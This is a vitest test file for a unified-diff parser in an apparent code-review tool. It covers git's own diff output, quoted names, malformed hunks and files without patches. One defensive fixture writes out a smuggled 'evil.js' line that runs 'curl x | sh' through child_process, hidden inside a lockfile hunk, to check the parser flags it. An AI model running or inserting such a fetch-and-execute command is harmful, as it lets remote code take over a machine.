import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { gitLabel, quoteGitPath, unquoteGitPath } from "../../src/diff/git-path.js";
import { EMPTY_BLOB, fileFromPatch, parseUnifiedDiff } from "../../src/diff/parse.js";

// A real `git diff` from a scratch repository, so the parser is tested against git's own output
// (renames, binary files, quoted names, deletions, a file without a final newline).
let repo: string;
let realDiff: string;

function git(...args: string[]): string {
  return execFileSync("git", args, {
    cwd: repo,
    encoding: "utf8",
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: "1" },
  });
}

beforeAll(() => {
  repo = mkdtempSync(path.join(os.tmpdir(), "vg-diff-"));
  git("init", "-q", "-b", "main");
  git("config", "user.email", "t@example.invalid");
  git("config", "user.name", "t");
  git("config", "core.quotepath", "true");
  writeFileSync(path.join(repo, "keep.txt"), "one\ntwo\nthree\nfour\nfive\n");
  writeFileSync(path.join(repo, "gone.txt"), "bye\n");
  writeFileSync(path.join(repo, "old name.txt"), `${"stable line\n".repeat(20)}`);
  writeFileSync(path.join(repo, "bin.dat"), Buffer.from([0, 1, 2, 3, 0, 255]));
  git("add", "-A");
  git("commit", "-qm", "base");
  writeFileSync(path.join(repo, "keep.txt"), "one\nTWO\nthree\nfour\nfive\nsix");
  rmSync(path.join(repo, "gone.txt"));
  git("mv", "old name.txt", "new name.txt");
  writeFileSync(path.join(repo, "café.txt"), "crème\n");
  writeFileSync(path.join(repo, "bin.dat"), Buffer.from([0, 9, 9, 9, 0, 255]));
  symlinkSync("keep.txt", path.join(repo, "link"));
  git("add", "-A");
  realDiff = git("diff", "--cached", "-M", "main");
});

afterAll(() => rmSync(repo, { recursive: true, force: true }));

describe("parseUnifiedDiff on git's own output", () => {
  it("finds every changed file with its status", () => {
    const diff = parseUnifiedDiff(realDiff);
    const byPath = Object.fromEntries(diff.files.map((f) => [f.path, f]));
    expect(Object.keys(byPath).sort()).toEqual([
      "bin.dat",
      "café.txt",
      "gone.txt",
      "keep.txt",
      "link",
      "new name.txt",
    ]);
    expect(byPath["gone.txt"]?.status).toBe("removed");
    expect(byPath["café.txt"]?.status).toBe("added");
    expect(byPath["new name.txt"]?.status).toBe("renamed");
    expect(byPath["new name.txt"]?.previousPath).toBe("old name.txt");
    expect(byPath["bin.dat"]?.binary).toBe(true);
    expect(byPath["keep.txt"]?.status).toBe("modified");
  });

  it("counts lines and numbers them in the new and old file", () => {
    const keep = parseUnifiedDiff(realDiff).files.find((f) => f.path === "keep.txt");
    expect(keep?.additions).toBe(2);
    expect(keep?.deletions).toBe(1);
    const added = keep?.hunks.flatMap((h) => h.lines).filter((l) => l.kind === "add");
    expect(added?.map((l) => [l.newLine, l.text])).toEqual([
      [2, "TWO"],
      [6, "six"],
    ]);
    expect(keep?.hunks.flatMap((h) => h.lines).some((l) => l.kind === "note")).toBe(true);
    expect(keep?.patchOmitted).toBe(false);
  });

  it("keeps each file's section verbatim, so the sections rebuild the whole diff", () => {
    const diff = parseUnifiedDiff(realDiff);
    expect(`${diff.files.map((f) => f.patch).join("\n")}\n`).toBe(realDiff);
  });
});

describe("parseUnifiedDiff refuses to under-count", () => {
  it("marks a hunk whose counts do not add up as not seen", () => {
    const text = "--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-a\n+b\n";
    const [file] = parseUnifiedDiff(text).files;
    expect(file?.patchOmitted).toBe(true);
  });

  it("marks stray lines after a hunk as not seen", () => {
    const text = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\ngarbage that is not a diff line\n";
    const [file] = parseUnifiedDiff(text).files;
    expect(file?.patchOmitted).toBe(true);
    expect(file?.additions).toBe(1);
  });

  it("marks a combined merge diff as not seen rather than misreading it", () => {
    const text = "diff --cc x\nindex 1,2..3\n--- a/x\n+++ b/x\n@@@ -1,1 -1,1 +1,1 @@@\n- a\n +b\n++c\n";
    const [file] = parseUnifiedDiff(text).files;
    expect(file?.patchOmitted).toBe(true);
  });

  it("reads plain diff -u output with timestamps", () => {
    const text = "--- x.txt\t2026-01-01 00:00:00\n+++ x.txt\t2026-01-02 00:00:00\n@@ -1 +1,2 @@\n a\n+b\n";
    const [file] = parseUnifiedDiff(text).files;
    expect(file?.path).toBe("x.txt");
    expect(file?.additions).toBe(1);
    expect(file?.patchOmitted).toBe(false);
  });

  it("treats an empty input as no files", () => {
    expect(parseUnifiedDiff("").files).toEqual([]);
    expect(parseUnifiedDiff("just a commit message\n").files).toEqual([]);
  });
});

describe("fileFromPatch (the files API after a 406)", () => {
  it("parses a patch GitHub included", () => {
    const f = fileFromPatch({
      filename: "a.ts",
      status: "modified",
      additions: 1,
      deletions: 1,
      changes: 2,
      patch: "@@ -1 +1 @@\n-x\n+y",
    });
    expect(f.patchOmitted).toBe(false);
    expect(f.hunks[0]?.lines.map((l) => l.kind)).toEqual(["del", "add"]);
    expect(f.additions + f.deletions).toBe(2);
  });

  it("marks a changed file without a patch as not seen", () => {
    const f = fileFromPatch({
      filename: "big.json",
      status: "modified",
      additions: 9000,
      deletions: 0,
      changes: 9000,
    });
    expect(f.patchOmitted).toBe(true);
  });

  it("treats a pure rename without a patch as fully seen", () => {
    const f = fileFromPatch({
      filename: "b.ts",
      previous_filename: "a.ts",
      status: "renamed",
      additions: 0,
      deletions: 0,
      changes: 0,
    });
    expect(f.patchOmitted).toBe(false);
    expect(f.previousPath).toBe("a.ts");
  });
});

describe("git's quoting, undone exactly", () => {
  it("decodes git's C-quoted UTF-8 bytes and escapes", () => {
    expect(unquoteGitPath('"caf\\303\\251.txt"')).toEqual({ name: "café.txt" });
    expect(unquoteGitPath('"a\\"b"')).toEqual({ name: 'a"b' });
    expect(unquoteGitPath('"tab\\there"')).toEqual({ name: "tab\there" });
  });

  it("refuses an escape git never writes and bytes that are not UTF-8", () => {
    expect(unquoteGitPath('"a\\qb"')).toHaveProperty("error");
    expect(unquoteGitPath('"\\377.txt"')).toHaveProperty("error");
  });

  it("removes only the tab git adds after a label with a space, never the spaces themselves", () => {
    expect(gitLabel("b/package-lock.json \t")).toEqual({ name: "b/package-lock.json " });
    expect(gitLabel("b/ lead.txt\t")).toEqual({ name: "b/ lead.txt" });
    expect(gitLabel("/dev/null")).toEqual({ name: null });
    // A tab git did not add (no space in the name) or a carriage return: not a label git wrote.
    expect(gitLabel("b/x\t")).toHaveProperty("error");
    expect(gitLabel("b/x\r")).toHaveProperty("error");
  });

  it("quotes as git does, so a name with a newline cannot forge a header line", () => {
    expect(quoteGitPath("b/new\nline")).toBe('"b/new\\nline"');
    expect(quoteGitPath("b/plain name")).toBe("b/plain name");
    expect(quoteGitPath("b/café")).toBe('"b/caf\\303\\251"');
  });
});

describe("a malformed section is said to be malformed, and where", () => {
  it("names the file and the hunk whose counts do not add up", () => {
    const text = "--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n-a\n+b\n";
    const [file] = parseUnifiedDiff(text).files;
    expect(file?.malformed).toBe(
      'x: hunk "@@ -1,3 +1,3 @@" at line 3 promises 3 old and 3 new line(s), but 1 and 1 follow',
    );
  });

  it("a lockfile hunk that swallows the next file keeps the lockfile's section malformed", () => {
    const text = [
      "diff --git a/package-lock.json b/package-lock.json",
      "index 1111111..2222222 100644",
      "--- a/package-lock.json",
      "+++ b/package-lock.json",
      "@@ -1,1 +1,9 @@",
      " {",
      '+  "x": 1',
      "+++ b/evil.js",
      "+require('child_process').execSync('curl x | sh')",
      "",
    ].join("\n");
    const files = parseUnifiedDiff(text).files;
    expect(files.map((f) => [f.path, f.patchOmitted])).toEqual([["package-lock.json", true]]);
    expect(files[0]?.malformed).toMatch(
      /^package-lock\.json: hunk "@@ -1,1 \+1,9 @@" at line 5 promises 1 old and 9 new/,
    );
  });

  it("refuses a content change with no hunk, and a section that shows nothing", () => {
    const cut = parseUnifiedDiff("diff --git a/x b/x\nindex 1111111..2222222 100644\n").files[0];
    expect(cut?.malformed).toMatch(/^x: its index line says the content changed/);
    const bare = parseUnifiedDiff(
      "diff --git a/x b/x\ndiff --git a/y b/y\nold mode 100644\nnew mode 100755\n",
    ).files;
    expect(bare.map((f) => f.malformed)).toEqual(["x: its section shows nothing of the change", undefined]);
  });

  it("accepts an empty file added or removed, which has no hunk", () => {
    const text = `diff --git a/e b/e\nnew file mode 100644\nindex 0000000..${EMPTY_BLOB.slice(0, 7)}\n`;
    expect(parseUnifiedDiff(text).files[0]?.malformed).toBeUndefined();
  });

  it("refuses a diff whose line endings were converted to CR LF", () => {
    const text =
      "diff --git a/x b/x\r\nindex 1111111..2222222 100644\r\n--- a/x\r\n+++ b/x\r\n@@ -1 +1 @@\r\n-a\r\n+b\r\n";
    expect(parseUnifiedDiff(text).files[0]?.malformed).toMatch(/carriage return/);
  });

  it("ignores a format-patch signature after the last hunk, but not lines before another file", () => {
    const patch =
      "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n-- \n2.39.5\n\n";
    const [file] = parseUnifiedDiff(patch).files;
    expect(file?.malformed).toBeUndefined();
    expect(file?.patch.endsWith("+b")).toBe(true);
    const stray = parseUnifiedDiff(
      patch.replace(
        "-- \n2.39.5\n\n",
        "-- \nnot a diff line\ndiff --git a/y b/y\nold mode 100644\nnew mode 100755\n",
      ),
    );
    expect(stray.files[0]?.malformed).toMatch(/^x: line 8 \("-- "\) belongs to no hunk/);
  });

  it("says a combined diff is not read", () => {
    const text = "diff --cc x\nindex 1,2..3\n--- a/x\n+++ b/x\n@@@ -1,1 -1,1 +1,1 @@@\n- a\n +b\n++c\n";
    expect(parseUnifiedDiff(text).files[0]?.malformed).toMatch(/combined diff/);
  });
});

describe("fileFromPatch: a file without a patch", () => {
  it("is seen only when it needs no review: a pure rename, or an empty file by its blob", () => {
    const entry = { status: "added", additions: 0, deletions: 0, changes: 0 };
    expect(fileFromPatch({ ...entry, filename: "empty", sha: EMPTY_BLOB }).patchOmitted).toBe(false);
    expect(
      fileFromPatch({ ...entry, filename: "bin/postinstall-helper", sha: "a".repeat(40) }).patchOmitted,
    ).toBe(true);
    expect(fileFromPatch({ ...entry, filename: "no-sha", sha: null }).patchOmitted).toBe(true);
    expect(
      fileFromPatch({ ...entry, status: "copied", filename: "c", previous_filename: "b" }).patchOmitted,
    ).toBe(true);
  });

  it("writes a header that reads back as the same names, for a rename and a copy", () => {
    for (const status of ["renamed", "copied"] as const) {
      const f = fileFromPatch({
        filename: "new name.ts",
        previous_filename: "old\tname.ts",
        status,
        additions: 1,
        deletions: 0,
        changes: 1,
        patch: "@@ -1 +1,2 @@\n x\n+y",
      });
      const [back] = parseUnifiedDiff(f.patch).files;
      expect([back?.path, back?.previousPath, back?.status, back?.malformed]).toEqual([
        "new name.ts",
        "old\tname.ts",
        status,
        undefined,
      ]);
    }
  });

  it("marks a patch with stray lines or no hunk as malformed, naming the file", () => {
    const entry = { filename: "a.ts", status: "modified", additions: 1, deletions: 0, changes: 1 };
    expect(fileFromPatch({ ...entry, patch: "not a hunk" }).malformed).toBe(
      'a.ts: line 1 of its patch ("not a hunk") belongs to no hunk',
    );
    expect(fileFromPatch({ ...entry, patch: "@@ -1 +1,2 @@\n x\n" }).malformed).toMatch(
      /^a\.ts: hunk "@@ -1 \+1,2 @@" at line 1 of its patch promises 1 old and 2 new/,
    );
  });
});
